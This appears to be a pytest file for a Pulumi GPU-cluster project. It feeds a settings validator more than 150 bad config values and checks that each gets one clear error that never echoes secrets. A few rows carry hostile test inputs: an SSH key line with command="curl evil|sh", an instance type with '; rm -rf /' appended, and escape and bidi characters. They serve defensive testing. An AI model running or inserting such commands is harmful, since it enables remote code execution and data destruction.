@@ -1,0 +1,481 @@
+"""Every bad setting refused clearly (issue 12, item 6): one table, one line per problem.
+
+Each row is (config, the key its line names, a fragment of that line). `settings.load` runs on
+every row (fast); a sample goes through the CLI, and the Pulumi program itself, to show the
+same lines, exit 2 and nothing registered."""
+
+from __future__ import annotations
+
+import base64
+import struct
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ec, ed25519
+
+from stacks import offline, settings
+from stacks.settings import PROJECT
+
+ROOT = Path(__file__).resolve().parents[2]
+ADMIN = "81.2.69.0/28"  # RFC 5737 is refused by a deployment; this is a public range
+
+
+def cfg(values: dict) -> dict:
+    """Namespaced config: keys with a ':' as given, others in the project's namespace."""
+    merged = {"adminCidr": ADMIN, **values}
+    return {
+        k[1:] if k.startswith("!") else k if ":" in k else f"{PROJECT}:{k}": v  # "!key": a key with no namespace
+        for k, v in merged.items()
+        if v is not None
+    }
+
+
+def _openssh(public_key) -> str:
+    return public_key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()
+
+
+def _rsa_line(bits: int) -> str:
+    """An ssh-rsa line with a modulus of exactly `bits` bits (the parser checks size, not primality)."""
+
+    def field(b: bytes) -> bytes:
+        return struct.pack(">I", len(b)) + b
+
+    def mpint(n: int) -> bytes:
+        return field(n.to_bytes((n.bit_length() + 8) // 8, "big"))
+
+    blob = field(b"ssh-rsa") + mpint(65537) + mpint((1 << (bits - 1)) | 1)
+    return "ssh-rsa " + base64.b64encode(blob).decode()
+
+
+ED25519 = _openssh(ed25519.Ed25519PrivateKey.from_private_bytes(b"\x01" * 32).public_key())
+ECDSA = _openssh(ec.derive_private_key(7, ec.SECP256R1()).public_key())
+ED25519_BLOB = ED25519.split()[1]
+PRIVATE_BODY = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ"  # must never be echoed
+PRIVATE_KEYS = [
+    f"-----BEGIN OPENSSH PRIVATE KEY-----\n{PRIVATE_BODY}\n-----END OPENSSH PRIVATE KEY-----\n",
+    f"-----BEGIN RSA PRIVATE KEY-----\n{PRIVATE_BODY}\n-----END RSA PRIVATE KEY-----",
+    f"-----BEGIN PRIVATE KEY-----\n{PRIVATE_BODY}\n-----END PRIVATE KEY-----",
+    f"-----BEGIN EC PRIVATE KEY-----\n{PRIVATE_BODY}\n-----END EC PRIVATE KEY-----",
+    f"PuTTY-User-Key-File-3: ssh-ed25519\nPrivate-Lines: 1\n{PRIVATE_BODY}",
+    f"ssh-ed25519 {ED25519_BLOB} -----BEGIN OPENSSH PRIVATE KEY----- {PRIVATE_BODY}",
+]
+SECRETS = (PRIVATE_BODY, "AKIAIOSFODNN7EXAMPLE")
+
+VERSION_SETTINGS = {
+    # key: (tested, a release outside the tested series, a format mistake)
+    "kubernetesVersion": ("1.34.7", "1.35.0", "v1.34.7"),
+    "flannelVersion": ("v0.27.4", "v0.28.0", "0.27.4"),
+    "nvidiaContainerToolkitVersion": ("1.18.1", "1.17.8", "1.18"),
+    "devicePluginVersion": ("0.17.0", "0.18.0", "v0.17.0"),
+    "certManagerVersion": ("v1.19.2", "v1.18.2", "1.19.2"),
+    "slinkyVersion": ("1.0.0", "0.4.1", "1.0"),
+    "kubePrometheusStackVersion": ("80.9.2", "79.0.0", "80.9"),
+    "dcgmExporterVersion": ("4.7.1", "4.6.0", "4.7.1-rc1"),
+    "kedaVersion": ("2.16.1", "2.17.0", "2.16.1.0"),
+    "trainingOperatorVersion": ("v1.8.1", "v1.7.0", "1.8.1"),
+}
+
+
+def _other_digit(version: str, base: int) -> str:
+    """`version` with its first digit in another script (Python's `\\d` accepts them all)."""
+    i = next(i for i, ch in enumerate(version) if ch.isdigit())
+    return version[:i] + chr(base + int(version[i])) + version[i + 1 :]
+
+
+def _version_rows() -> list[tuple[dict, str, str]]:
+    rows = []
+    for key, (tested, outside, mistake) in VERSION_SETTINGS.items():
+        leading_v = tested.startswith("v")
+        fullwidth = _other_digit(tested, 0xFF10)
+        rows += [
+            ({key: outside}, key, "e.g. " + tested),
+            ({key: mistake}, key, "MAJOR.MINOR.PATCH"),
+            ({key: _other_digit(tested, 0x660)}, key, "ASCII digits"),  # Arabic-Indic
+            ({key: fullwidth}, key, settings.show(fullwidth)),
+            ({key: tested + "-beta"}, key, "MAJOR.MINOR.PATCH"),
+            ({key: tested.replace(".", ".0", 1)}, key, "MAJOR.MINOR.PATCH"),  # a leading zero
+            ({key: "latest"}, key, "e.g. " + tested),
+        ]
+        if leading_v:
+            rows.append(({key: tested.lstrip("v")}, key, "leading v"))
+    return rows
+
+
+ROWS: list[tuple[dict, str, str]] = [
+    # --- region and availability zone
+    ({"region": "useast1"}, "region", "commercial AWS partition"),
+    ({"region": "useast-1"}, "region", "did you mean us-east-1?"),
+    ({"region": "US-EAST-1"}, "region", "commercial AWS partition"),
+    ({"region": "us-gov-west-1"}, "region", "commercial AWS partition"),
+    ({"region": "cn-north-1"}, "region", "commercial AWS partition"),
+    ({"region": "us-east-\u0661"}, "region", '"us-east-\\u0661"'),
+    ({"region": "us-east-1\n\x1b[31m"}, "region", '"us-east-1\\n\\x1b[31m"'),
+    ({"region": ""}, "region", "commercial AWS partition"),
+    ({"availabilityZone": "us-east-1"}, "availabilityZone", "a zone of region us-east-1"),
+    ({"availabilityZone": "eu-west-1a"}, "availabilityZone", "a zone of region us-east-1"),
+    ({"availabilityZone": "us-east-1z"}, "availabilityZone", "us-east-1a, us-east-1b"),
+    ({"availabilityZone": "us-east-1g"}, "availabilityZone", "us-east-1f,"),
+    ({"availabilityZone": "use1-az1"}, "availabilityZone", "a zone of region us-east-1"),
+    ({"availabilityZone": "US-EAST-1A"}, "availabilityZone", "a zone of region"),
+    ({"availabilityZone": "us-east-1aa"}, "availabilityZone", "a zone of region"),
+    ({"region": "eu-west-1", "availabilityZone": "eu-west-1d"}, "availabilityZone", "eu-west-1c,"),
+    ({"region": "us-east-2", "availabilityZone": "us-east-2d"}, "availabilityZone", "us-east-2a"),
+    ({"region": "ap-south-1", "availabilityZone": "ap-south-1h"}, "availabilityZone", "checked again at run time"),
+    # --- adminCidr and allowOpenIngress
+    ({"adminCidr": None}, "adminCidr", "missing; required"),
+    ({"adminCidr": ""}, "adminCidr", "CIDR"),
+    ({"adminCidr": "203.0.113.7"}, "adminCidr", "CIDR"),
+    ({"adminCidr": "203.0.113.7/33"}, "adminCidr", "CIDR"),
+    ({"adminCidr": "81.2.69.1/28"}, "adminCidr", "no host bits"),
+    ({"adminCidr": "::/0"}, "adminCidr", "IPv4 only"),
+    ({"adminCidr": "2001:db8::/64"}, "adminCidr", "IPv4 only"),
+    ({"adminCidr": "0.0.0.0/0"}, "adminCidr", "allowOpenIngress"),
+    ({"adminCidr": "0.0.0.0/1"}, "adminCidr", "2,147,483,648 addresses"),
+    ({"adminCidr": "128.0.0.0/1"}, "adminCidr", "allowOpenIngress"),
+    ({"adminCidr": "81.0.0.0/8"}, "adminCidr", "wider than /16"),
+    ({"adminCidr": "81.2.0.0/15"}, "adminCidr", "wider than /16"),
+    ({"adminCidr": "10.0.0.0/24"}, "adminCidr", "not an internet address range"),
+    ({"adminCidr": "192.168.1.0/24"}, "adminCidr", "not an internet address range"),
+    ({"adminCidr": "127.0.0.1/32"}, "adminCidr", "not an internet address range"),
+    ({"adminCidr": "100.64.1.0/24"}, "adminCidr", "not an internet address range"),
+    ({"adminCidr": "169.254.169.254/32"}, "adminCidr", "not an internet address range"),
+    ({"adminCidr": "224.0.0.0/24"}, "adminCidr", "not an internet address range"),
+    ({"adminCidr": "\u0668\u0661.2.69.0/28"}, "adminCidr", "CIDR"),
+    ({"adminCidr": "81.2.69.0/28\n0.0.0.0/0"}, "adminCidr", "\\n"),
+    ({"adminCidr": "81.2.69.0/ 28"}, "adminCidr", "CIDR"),
+    ({"adminCidr": "081.2.69.0/28"}, "adminCidr", "CIDR"),
+    ({"allowOpenIngress": "yes"}, "allowOpenIngress", "true or false"),
+    ({"allowOpenIngress": "1"}, "allowOpenIngress", "true or false"),
+    ({"allowOpenIngress": ""}, "allowOpenIngress", "true or false"),
+    # --- vpcCidr
+    ({"vpcCidr": "8.8.0.0/16"}, "vpcCidr", "RFC 1918"),
+    ({"vpcCidr": "10.244.0.0/16"}, "vpcCidr", "overlaps the pod network (Flannel) 10.244.0.0/16"),
+    ({"vpcCidr": "10.244.5.0/24"}, "vpcCidr", "overlaps the pod network"),
+    ({"vpcCidr": "10.96.0.0/16"}, "vpcCidr", "overlaps the service network 10.96.0.0/12"),
+    ({"vpcCidr": "10.100.0.0/16"}, "vpcCidr", "overlaps the service network"),
+    ({"vpcCidr": "10.111.0.0/24"}, "vpcCidr", "overlaps the service network"),
+    ({"vpcCidr": "10.0.0.0/8"}, "vpcCidr", "from /16 to /24"),
+    ({"vpcCidr": "10.0.0.0/25"}, "vpcCidr", "from /16 to /24"),
+    ({"vpcCidr": "169.254.0.0/16"}, "vpcCidr", "RFC 1918"),
+    ({"vpcCidr": "100.64.0.0/16"}, "vpcCidr", "RFC 1918"),
+    ({"vpcCidr": "127.0.0.0/16"}, "vpcCidr", "RFC 1918"),
+    ({"vpcCidr": "10.0.0.1/16"}, "vpcCidr", "RFC 1918"),
+    ({"vpcCidr": "fd00::/64"}, "vpcCidr", "RFC 1918"),
+    ({"vpcCidr": "10.0.0.0"}, "vpcCidr", "RFC 1918"),
+    # --- amiId
+    ({"amiId": "ubuntu"}, "amiId", "AMI id"),
+    ({"amiId": "ami-123"}, "amiId", "AMI id"),
+    ({"amiId": "ami-0123456789abcdef"}, "amiId", "AMI id"),  # 16 digits: ids have 8 or 17
+    ({"amiId": "ami-0123456789ABCDEF0"}, "amiId", "AMI id"),
+    ({"amiId": "ami-\u0660123456789abcdef0"}, "amiId", "AMI id"),
+    # --- instance types (stacks/instance_types.py)
+    ({"workerInstanceType": "m5.large"}, "workerInstanceType", "has no GPU"),
+    ({"workerInstanceType": "p3.2xlarge"}, "workerInstanceType", "Tesla V100 (Volta)"),
+    ({"workerInstanceType": "p3.8xlarge"}, "workerInstanceType", "Turing and later only"),
+    ({"workerInstanceType": "p2.xlarge"}, "workerInstanceType", "(Kepler)"),
+    ({"workerInstanceType": "g3s.xlarge"}, "workerInstanceType", "(Maxwell)"),
+    ({"workerInstanceType": "g4ad.xlarge"}, "workerInstanceType", "AMD Radeon Pro V520"),
+    ({"workerInstanceType": "g4ad.2xlarge"}, "workerInstanceType", "NVIDIA driver"),
+    ({"workerInstanceType": "g5g.xlarge"}, "workerInstanceType", "is arm64"),
+    ({"workerInstanceType": "g4dn.12xlarge"}, "workerInstanceType", "has 4 GPUs"),
+    ({"workerInstanceType": "g4dn.metal"}, "workerInstanceType", "has 8 GPUs"),
+    ({"workerInstanceType": "g5.12xlarge"}, "workerInstanceType", "exactly one"),
+    ({"workerInstanceType": "g6.48xlarge"}, "workerInstanceType", "has 8 GPUs"),
+    ({"workerInstanceType": "p4d.24xlarge"}, "workerInstanceType", "has 8 GPUs"),
+    ({"workerInstanceType": "p5.48xlarge"}, "workerInstanceType", "has 8 GPUs"),
+    ({"workerInstanceType": "g4dn.3xlarge"}, "workerInstanceType", "not in the instance catalogue"),
+    ({"workerInstanceType": "g4dn.xlarg"}, "workerInstanceType", "did you mean g4dn.xlarge?"),
+    ({"workerInstanceType": "G4DN.XLARGE"}, "workerInstanceType", "g4dn.xlarge, g4dn.2xlarge"),
+    ({"workerInstanceType": "g7.xlarge"}, "workerInstanceType", "not in the instance catalogue"),
+    ({"workerInstanceType": ""}, "workerInstanceType", "GPU worker type from stacks/instance_types.py"),
+    ({"workerInstanceType": "g4dn.xlarge\u200b"}, "workerInstanceType", '"g4dn.xlarge\\u200b" is not in'),
+    ({"controlInstanceType": "t3.small"}, "controlInstanceType", "2 vCPU and 2 GiB"),
+    ({"controlInstanceType": "t3.micro"}, "controlInstanceType", "at least 2 vCPU and 4 GiB"),
+    ({"controlInstanceType": "t4g.medium"}, "controlInstanceType", "is arm64"),
+    ({"controlInstanceType": "m6g.large"}, "controlInstanceType", "Ubuntu 24.04 x86_64"),
+    ({"controlInstanceType": "g4dn.xlarge"}, "controlInstanceType", "is a GPU type"),
+    ({"controlInstanceType": "t3.nano"}, "controlInstanceType", "not in the instance catalogue"),
+    ({"controlInstanceType": "t3.mediun"}, "controlInstanceType", "did you mean t3.medium?"),
+    ({"controlInstanceType": "t3.medium; rm -rf /"}, "controlInstanceType", "t3.medium, t3.large"),
+    # --- whole numbers
+    ({"workerCount": "0"}, "workerCount", "from 1 to 235"),
+    ({"workerCount": "-2"}, "workerCount", "from 1 to"),
+    ({"workerCount": "four"}, "workerCount", "a whole number"),
+    ({"workerCount": "400"}, "workerCount", "subnet's capacity"),
+    ({"workerCount": "9" * 5000}, "workerCount", "(5000 characters)"),
+    ({"workerCount": "-" + "9" * 5000}, "workerCount", "from 1 to"),
+    ({"workerCount": "1" + "0" * 9}, "workerCount", "from 1 to"),
+    ({"workerCount": "\u0664"}, "workerCount", "ASCII digits"),
+    ({"workerCount": "\uff14"}, "workerCount", '"\\uff14"'),
+    ({"workerCount": "4.0"}, "workerCount", "a whole number"),
+    ({"workerCount": "1e2"}, "workerCount", "a whole number"),
+    ({"workerCount": "0x4"}, "workerCount", "a whole number"),
+    ({"workerCount": "4_0"}, "workerCount", "a whole number"),
+    ({"workerCount": "+4"}, "workerCount", "a whole number"),
+    ({"workerCount": ""}, "workerCount", "a whole number"),
+    ({"workerCount": "4 4"}, "workerCount", "a whole number"),
+    ({"controlRootVolumeGb": "8"}, "controlRootVolumeGb", "from 20"),
+    ({"controlRootVolumeGb": "16385"}, "controlRootVolumeGb", "to 16384"),
+    ({"controlRootVolumeGb": "9" * 400}, "controlRootVolumeGb", "from 20 to 16384"),
+    ({"workerRootVolumeGb": "20"}, "workerRootVolumeGb", "from 60"),
+    ({"workerRootVolumeGb": "100GB"}, "workerRootVolumeGb", "a whole number"),
+    ({"workerRootVolumeGb": "\u0661\u0660\u0660"}, "workerRootVolumeGb", "ASCII digits"),
+    ({"kedaMinReplicas": "3", "kedaMaxReplicas": "2"}, "kedaMinReplicas", "maxReplicaCount (2)"),
+    ({"kedaMinReplicas": "0"}, "kedaMinReplicas", "from 1"),
+    ({"kedaMinReplicas": "5"}, "kedaMinReplicas", "maxReplicaCount (4)"),
+    ({"kedaMinReplicas": "9" * 50}, "kedaMinReplicas", "maxReplicaCount (4)"),
+    ({"kedaMaxReplicas": "5"}, "kedaMaxReplicas", "workerCount (4)"),
+    ({"kedaMaxReplicas": "-1"}, "kedaMaxReplicas", "0 (= workerCount)"),
+    ({"kedaMaxReplicas": "3", "workerCount": "2"}, "kedaMaxReplicas", "workerCount (2)"),
+    ({"kedaCooldownSeconds": "0"}, "kedaCooldownSeconds", "from 1"),
+    ({"kedaCooldownSeconds": "86401"}, "kedaCooldownSeconds", "to 86400"),
+    ({"kedaCooldownSeconds": "5m"}, "kedaCooldownSeconds", "a whole number"),
+    ({"kedaPollingSeconds": "-5"}, "kedaPollingSeconds", "from 1"),
+    ({"kedaPollingSeconds": "3601"}, "kedaPollingSeconds", "to 3600"),
+    # --- booleans
+    ({"spotWorkers": "yes"}, "spotWorkers", "true or false"),
+    ({"spotWorkers": "on"}, "spotWorkers", "true or false"),
+    ({"spotWorkers": "0"}, "spotWorkers", "true or false"),
+    ({"gpuFeatureDiscovery": "enabled"}, "gpuFeatureDiscovery", "true or false"),
+    ({"gpuFeatureDiscovery": "tru\u0435"}, "gpuFeatureDiscovery", '"tru\\u0435"'),  # Cyrillic e
+    # --- sshPublicKey
+    ({"sshPublicKey": "not-a-key"}, "sshPublicKey", "OpenSSH public key"),
+    ({"sshPublicKey": _rsa_line(1024)}, "sshPublicKey", "RSA key of 1024 bits"),
+    ({"sshPublicKey": _rsa_line(2047)}, "sshPublicKey", "RSA key of 2047 bits"),
+    ({"sshPublicKey": _rsa_line(1536) + " me@host"}, "sshPublicKey", "2048 bits or more"),
+    ({"sshPublicKey": "ssh-dss AAAAB3NzaC1kc3MAAACBAP"}, "sshPublicKey", "OpenSSH public key"),
+    ({"sshPublicKey": "ssh-ed25519 AAAAbroken"}, "sshPublicKey", "not a readable key"),
+    ({"sshPublicKey": "ssh-rsa " + ED25519_BLOB}, "sshPublicKey", "does not match its label"),
+    ({"sshPublicKey": "ssh-ed25519 " + ED25519_BLOB[:-4]}, "sshPublicKey", "not a readable key"),
+    ({"sshPublicKey": ED25519 + "\n" + ECDSA}, "sshPublicKey", "one OpenSSH public key line"),
+    ({"sshPublicKey": f'command="curl evil|sh" {ED25519}'}, "sshPublicKey", "one OpenSSH public key line"),
+    ({"sshPublicKey": ED25519 + " me\u202e@host"}, "sshPublicKey", "one OpenSSH public key line"),  # bidi
+    ({"sshPublicKey": ED25519 + " " + "x" * 3000}, "sshPublicKey", "at most 2048 characters"),
+    ({"sshPublicKey": "sk-ssh-ed25519@openssh.com AAAAGnNr"}, "sshPublicKey", "OpenSSH public key"),
+    *[({"sshPublicKey": key}, "sshPublicKey", "value hidden: looks like a private key") for key in PRIVATE_KEYS],
+    ({"amiId": PRIVATE_KEYS[2]}, "amiId", "value hidden: looks like a private key"),
+    ({"nodesetName": "AKIAIOSFODNN7EXAMPLE"}, "nodesetName", "value hidden: looks like an AWS access key"),
+    # --- versions, driver branch and image tag
+    *_version_rows(),
+    ({"kubernetesVersion": "1.28.3"}, "kubernetesVersion", "1.34.N"),
+    ({"kubernetesVersion": "1.34"}, "kubernetesVersion", "MAJOR.MINOR.PATCH"),
+    ({"kubernetesVersion": "1.34.7-1.1"}, "kubernetesVersion", "MAJOR.MINOR.PATCH"),
+    ({"kubernetesVersion": "1.34.99999"}, "kubernetesVersion", "MAJOR.MINOR.PATCH"),
+    ({"nvidiaContainerToolkitVersion": "1.18.0"}, "nvidiaContainerToolkitVersion", "wrong directory"),
+    ({"nvidiaDriverBranch": "latest"}, "nvidiaDriverBranch", "tested branch 580"),
+    ({"nvidiaDriverBranch": "470"}, "nvidiaDriverBranch", "tested branch 580"),
+    ({"nvidiaDriverBranch": "\u0665\u0668\u0660"}, "nvidiaDriverBranch", "tested branch 580"),
+    ({"nvidiaDriverBranch": "580-open"}, "nvidiaDriverBranch", "-server-open"),
+    ({"slurmImageTag": "25.11-ubuntu24.04"}, "slurmImageTag", "25.11.N-ubuntu24.04"),
+    ({"slurmImageTag": "25.05.3-ubuntu24.04"}, "slurmImageTag", "Slinky 1.0 runs"),
+    ({"slurmImageTag": "25.11.6-rockylinux9"}, "slurmImageTag", "25.11.N-ubuntu24.04"),
+    ({"slurmImageTag": "latest"}, "slurmImageTag", "e.g. 25.11.6-ubuntu24.04"),
+    ({"slurmImageTag": "25.11.6-ubuntu24.04@sha256:abc"}, "slurmImageTag", "25.11.N-ubuntu24.04"),
+    # --- nodesetName
+    ({"nodesetName": "GPU_nodes"}, "nodesetName", "DNS label"),
+    ({"nodesetName": "all"}, "nodesetName", "clashes with the Slurm partition `all`"),
+    ({"nodesetName": "default"}, "nodesetName", "PartitionName=DEFAULT"),
+    ({"nodesetName": "-gpu"}, "nodesetName", "DNS label"),
+    ({"nodesetName": "gpu-"}, "nodesetName", "DNS label"),
+    ({"nodesetName": "a" * 33}, "nodesetName", "1-32 characters"),
+    ({"nodesetName": ""}, "nodesetName", "DNS label"),
+    ({"nodesetName": "gpu nodes"}, "nodesetName", "DNS label"),
+    ({"nodesetName": "gp\u00fc"}, "nodesetName", '"gp\\xfc"'),
+    # --- keys: unknown, near-miss namespaces, other providers, encrypted and structured values
+    ({"workrCount": "3"}, "workrCount", "did you mean workerCount?"),
+    ({"workercount": "3"}, "workercount", "did you mean workerCount?"),
+    ({"adminCIDR": "81.2.69.0/28"}, "adminCIDR", "did you mean adminCidr?"),
+    ({"worker\ncount": "3"}, "worker\\ncount", "is not a setting of gpu-testbed"),
+    ({"gpu_testbed:workerCount": "2"}, "gpu_testbed:workerCount", "did you mean gpu-testbed:workerCount?"),
+    ({"gputestbed:region": "us-east-2"}, "gputestbed:region", "the project is gpu-testbed"),
+    ({"GPU-testbed:workerCount": "2"}, "GPU-testbed:workerCount", "keys start with gpu-testbed:"),
+    ({"gpu-testbd:workerCount": "2"}, "gpu-testbd:workerCount", "did you mean gpu-testbed:workerCount?"),
+    ({"gpu-tesbed:spotWorker": "true"}, "gpu-tesbed:spotWorker", "did you mean gpu-testbed:spotWorkers?"),
+    ({"aws:region": "eu-west-1"}, "aws:region", "pulumi config set region"),
+    ({"aws:profile": "prod"}, "aws:profile", "AWS_PROFILE"),
+    ({"aws:secretKey": "wJalrXUtnFEMI/K7MDENG"}, "aws:secretKey", "explicit"),
+    ({"kubernetes:context": "prod"}, "kubernetes:context", "kubeconfig the program mints"),
+    ({"!workerCount": "2"}, "workerCount", "without a namespace"),
+    ({"workerCount": {"secure": "v1:abcdef"}}, "workerCount", "value hidden: encrypted with secure:"),
+    ({"sshPublicKey": {"secure": "v1:abcdef"}}, "sshPublicKey", "not encrypted"),
+    ({"workerCount": ["1", "2"]}, "workerCount", "a plain value"),
+]
+
+
+def _problems(values: dict) -> list[str]:
+    with pytest.raises(settings.SettingsError) as error:
+        settings.load(cfg(values))
+    return error.value.problems
+
+
+def test_the_table_has_at_least_150_rows():
+    assert len(ROWS) >= 150
+
+
+@pytest.mark.parametrize("values, key, fragment", ROWS, ids=[f"{i}-{r[1]}" for i, r in enumerate(ROWS)])
+def test_a_bad_setting_is_refused_in_one_clear_line(values, key, fragment):
+    problems = _problems(values)
+    found = [p for p in problems if p.startswith(f"{key}: ")]
+    assert len(found) == 1, problems
+    assert fragment in found[0], found[0]
+    for line in problems:
+        assert all(" " <= ch <= "~" or ch == "…" for ch in line), line  # escaped: one printable line
+        assert not any(secret in line for secret in SECRETS), line
+    raw = values.get(key)
+    if ":" not in key and isinstance(raw, str) and not settings.secret_kind(raw):
+        assert settings.show(raw) in found[0], found[0]  # the value, escaped and truncated
+
+
+def test_every_problem_is_reported_at_once_and_none_twice():
+    problems = _problems(
+        {
+            "workerCount": "x",
+            "region": "nowhere",
+            "kedaCooldownSeconds": "0",
+            "adminCidr": "bad",
+            "gpu_testbed:spotWorkers": "true",
+            "sshPublicKey": PRIVATE_KEYS[0],
+            "vpcCidr": "10.244.0.0/16",
+        }
+    )
+    keys = sorted(p.split(": ")[0] for p in problems)
+    assert keys == sorted(
+        [
+            "adminCidr",
+            "gpu_testbed:spotWorkers",
+            "kedaCooldownSeconds",
+            "region",
+            "sshPublicKey",
+            "vpcCidr",
+            "workerCount",
+        ]
+    )
+
+
+ACCEPTED = [
+    {"adminCidr": "0.0.0.0/0", "allowOpenIngress": "true"},
+    {"adminCidr": "81.0.0.0/8", "allowOpenIngress": "TRUE"},
+    {"adminCidr": "81.2.0.0/16"},
+    {"vpcCidr": "172.31.0.0/16"},
+    {"vpcCidr": "192.168.10.0/24"},
+    {"vpcCidr": "10.245.0.0/16"},  # just above the pod network
+    {"vpcCidr": "10.95.0.0/16"},  # just below the service network
+    {"workerInstanceType": "g5.xlarge"},
+    {"workerInstanceType": "g6e.2xlarge", "region": "us-west-2", "availabilityZone": "us-west-2d"},
+    {"controlInstanceType": "m6i.large"},
+    {"sshPublicKey": _rsa_line(2048)},
+    {"sshPublicKey": ED25519 + " me@host"},
+    {"sshPublicKey": ECDSA},
+    {"sshPublicKey": ED25519 + "\n"},  # the newline a pasted key ends with
+    {"kubernetesVersion": "1.34.0", "flannelVersion": "v0.27.0", "kedaVersion": "2.16.2"},
+    {"kubePrometheusStackVersion": "80.0.0"},
+    {"workerCount": "007", "kedaMaxReplicas": "0"},
+    {"nodesetName": "all-gpus"},
+    {"pulumi:tags": "{}", "other-tool:setting": "x"},  # other namespaces belong to other tools
+]
+
+
+@pytest.mark.parametrize("values", ACCEPTED)
+def test_good_values_next_to_the_refused_ones_are_accepted(values):
+    settings.load(cfg(values))
+
+
+def test_a_stack_file_is_read_as_pulumi_reads_it(tmp_path):
+    """Unquoted numbers and booleans are their text; YAML 1.1 `yes` stays the word yes."""
+    (tmp_path / "Pulumi.lab.yaml").write_text(
+        f"config:\n  {PROJECT}:adminCidr: {ADMIN}\n  {PROJECT}:workerCount: 2\n"
+        f"  {PROJECT}:spotWorkers: true\n  {PROJECT}:kedaCooldownSeconds: 600\n"
+    )
+    loaded = settings.load(offline.stack_config("lab", root=tmp_path))
+    assert (loaded.worker_count, loaded.spot_workers, loaded.keda_cooldown_seconds) == (2, True, 600)
+    (tmp_path / "Pulumi.yes.yaml").write_text(
+        f"config:\n  {PROJECT}:adminCidr: {ADMIN}\n  {PROJECT}:spotWorkers: yes\n  workerCount: 3\n"
+        f"  {PROJECT}:sshPublicKey:\n    secure: v1:c2VjcmV0\n"
+    )
+    with pytest.raises(settings.SettingsError) as error:
+        settings.load(offline.stack_config("yes", root=tmp_path))
+    assert [p.split(": ")[0] for p in error.value.problems] == ["workerCount", "spotWorkers", "sshPublicKey"]
+    assert "c2VjcmV0" not in str(error.value)
+
+
+@pytest.mark.parametrize(
+    "stack, fragment",
+    [("typo", "no stack file Pulumi.typo.yaml"), ("../dev", "expected a stack name"), ("", "expected a stack name")],
+)
+def test_a_missing_or_odd_stack_is_named_before_any_setting(stack, fragment):
+    with pytest.raises(settings.SettingsError) as error:
+        offline.stack_config(stack)
+    (line,) = error.value.problems
+    assert line.startswith("--stack: ") and fragment in line and "adminCidr" not in line
+
+
+# Every 15th row that the CLI can express (plain values, a setting's own key).
+SAMPLE = [r for r in ROWS[::15] if all(isinstance(v, str) for v in r[0].values()) and ":" not in r[1]]
+
+
+def test_a_sample_of_the_table_exits_2_through_the_cli_before_any_resource(capsys, monkeypatch):
+    import pulumi
+
+    from stacks import __main__ as cli
+
+    def no_engine(*args, **kwargs):
+        raise AssertionError("the mock engine started: a resource could have been created")
+
+    monkeypatch.setattr(pulumi.runtime, "set_mocks", no_engine)
+    assert len(SAMPLE) >= 8
+    for values, key, fragment in SAMPLE:
+        args = ["plan"] + [a for k, v in values.items() for a in ("--config", f"{k.lstrip('!')}={v}")]
+        assert cli.main(args) == 2, values
+        err = capsys.readouterr().err.splitlines()
+        assert any(line.startswith(f"{key}: ") and fragment in line for line in err), err
+
+
+def test_the_cli_prints_the_lines_and_no_traceback_for_a_pasted_private_key(tmp_path):
+    result = subprocess.run(
+        [
+            *(sys.executable, "-m", "stacks", "render", "--out", str(tmp_path / "r")),
+            *("--config", "vpcCidr=10.96.0.0/16", "--config", f"sshPublicKey={PRIVATE_KEYS[0]}"),
+            *("--config", "workerCount=" + "9" * 5000),
+        ],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=120,
+    )
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert [line.split(": ")[0] for line in result.stderr.splitlines()] == ["vpcCidr", "sshPublicKey", "workerCount"]
+    assert PRIVATE_BODY not in result.stderr and not (tmp_path / "r").exists()
+
+
+def test_the_pulumi_program_registers_nothing_for_a_bad_config():
+    """`__main__.py` as `pulumi up` runs it: RunError (printed without a stack trace), no resource."""
+    import runpy
+
+    import pulumi
+    from pulumi.runtime.stack import run_pulumi_func
+    from pulumi.runtime.sync_await import _sync_await
+
+    monitor = offline.RecordingMonitor(offline.TestbedMocks())
+    pulumi.runtime.set_mocks(monitor.mocks, project=PROJECT, stack="dev", preview=False, monitor=monitor)
+    pulumi.runtime.set_all_config(
+        {
+            f"{PROJECT}:adminCidr": ADMIN,
+            f"{PROJECT}:availabilityZone": "us-east-1z",
+            f"{PROJECT}:sshPublicKey": PRIVATE_KEYS[1],
+            "gpu_testbed:workerCount": "2",
+        }
+    )
+    with pytest.raises(pulumi.RunError) as error:
+        _sync_await(run_pulumi_func(lambda: runpy.run_path(str(ROOT / "__main__.py"))))
+    lines = str(error.value).splitlines()
+    assert lines[0] == "invalid settings:"
+    assert sorted(line.split(": ")[0] for line in lines[1:]) == [
+        "availabilityZone",
+        "gpu_testbed:workerCount",
+        "sshPublicKey",
+    ]
+    assert PRIVATE_BODY not in str(error.value)
+    assert monitor.recorded == []
